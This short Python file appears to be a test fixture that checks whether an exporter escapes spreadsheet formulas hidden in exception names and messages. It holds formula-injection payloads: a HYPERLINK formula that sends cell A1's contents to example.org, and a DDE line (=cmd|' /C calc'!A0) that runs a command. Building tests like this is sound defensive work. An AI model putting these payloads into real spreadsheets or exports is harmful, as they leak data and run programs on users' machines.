"""Expected: crashed (exception), 0 of 6. J1, wall/numbers.

The type and the message of an exception are formulas, at the beginning and behind what some spreadsheet takes for a
separator.
"""

Formula = type('=HYPERLINK("http://example.org/?" & A1, "click")', (Exception,), {})


def double(x):
    raise Formula("-1+1\n=1+1\n@SUM(A1:A9);=cmd|' /C calc'!A0\t=1+1;+1|-1,=1+1")


def scale_(x, factor):
    raise type("\t+1", (Exception,), {})("@now")
